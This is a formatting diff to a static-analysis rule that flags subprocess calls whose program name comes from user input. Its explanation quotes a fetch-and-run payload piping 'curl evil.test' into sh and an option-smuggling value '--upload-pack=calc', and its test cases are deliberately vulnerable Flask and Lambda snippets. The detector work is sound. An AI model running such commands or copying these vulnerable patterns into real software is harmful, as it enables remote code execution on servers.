@@ -6,7 +6,14 @@ import ast
 
 from tabguard.engine.rule import Invalid, Rule
 from tabguard.engine.taint import LOCAL_SOURCES
-from tabguard.rules.injection._shell import LAUNCHERS, launched, process_call, process_call_name, script_argument, shell_enabled
+from tabguard.rules.injection._shell import (
+    LAUNCHERS,
+    launched,
+    process_call,
+    process_call_name,
+    script_argument,
+    shell_enabled,
+)
 from tabguard.rules.injection._strings import formatted_pieces
 
 _LAMBDA = "Lambda event"
@@ -29,16 +36,16 @@ class TaintedExecutable(Rule):
     )
     why = (
         "An argument list stops shell parsing, but not the choice of program: a request that sends "
-        "`[\"bash\", \"-c\", \"curl evil.test | sh\"]` or `/usr/bin/python3` as the tool name runs anything "
-        "the server account can. Assistants write `subprocess.run(request.json[\"cmd\"])` for \"run a "
-        "task\" endpoints. A whole command line in one string without a shell "
-        "(`subprocess.run(\"git clone \" + url)`) is no safer: Windows splits it into arguments, so "
+        '`["bash", "-c", "curl evil.test | sh"]` or `/usr/bin/python3` as the tool name runs anything '
+        'the server account can. Assistants write `subprocess.run(request.json["cmd"])` for "run a '
+        'task" endpoints. A whole command line in one string without a shell '
+        '(`subprocess.run("git clone " + url)`) is no safer: Windows splits it into arguments, so '
         "`url=--upload-pack=calc` adds an option that runs a program (on POSIX the call fails, and the "
-        "usual \"fix\", `shell=True`, makes it a shell injection)."
+        'usual "fix", `shell=True`, makes it a shell injection).'
     )
     how = (
-        "Map a user-supplied *name* to a fixed program from an allow-list (`TOOLS = {{\"lint\": [\"ruff\", "
-        "\"check\"]}}`) and pass only validated values as later arguments."
+        'Map a user-supplied *name* to a fixed program from an allow-list (`TOOLS = {{"lint": ["ruff", '
+        '"check"]}}`) and pass only validated values as later arguments.'
     )
     example = 'TOOLS = {"lint": ["ruff", "check", "."]}\nsubprocess.run(TOOLS[name], check=True) if name in TOOLS else abort(400)'
     references = (
@@ -60,11 +67,19 @@ class TaintedExecutable(Rule):
     INVALID = (
         Invalid('import subprocess\nfrom flask import request\ndef run():\n    subprocess.run(request.json["argv"])\n'),
         Invalid('import subprocess, sys\nsubprocess.Popen([sys.argv[1], "--help"])\n'),
-        Invalid('import os\nfrom flask import request\ndef f():\n    os.execvp(request.args["p"], [request.args["p"]])\n'),
-        Invalid('import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", request.form["script"]])\n'),
-        Invalid('import subprocess\nfrom flask import request\ndef f():\n    subprocess.run("git clone " + request.form["repo"])\n'),
-        Invalid('import asyncio\ndef handler(event, context):\n    argv = event["cmd"]\n'
-                '    return asyncio.create_subprocess_exec(*argv)\n'),
+        Invalid(
+            'import os\nfrom flask import request\ndef f():\n    os.execvp(request.args["p"], [request.args["p"]])\n'
+        ),
+        Invalid(
+            'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", request.form["script"]])\n'
+        ),
+        Invalid(
+            'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run("git clone " + request.form["repo"])\n'
+        ),
+        Invalid(
+            'import asyncio\ndef handler(event, context):\n    argv = event["cmd"]\n'
+            "    return asyncio.create_subprocess_exec(*argv)\n"
+        ),
     )
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
@@ -91,5 +106,10 @@ class TaintedExecutable(Rule):
             if source is None:
                 source, what = ctx.taint(script_argument(program, argv)), "a script"
         if source is not None:
-            ctx.report(self, node, details={"callee": callee or ast.unparse(node.func), "what": what}, source=source,
-                       severity=severity)
+            ctx.report(
+                self,
+                node,
+                details={"callee": callee or ast.unparse(node.func), "what": what},
+                source=source,
+                severity=severity,
+            )
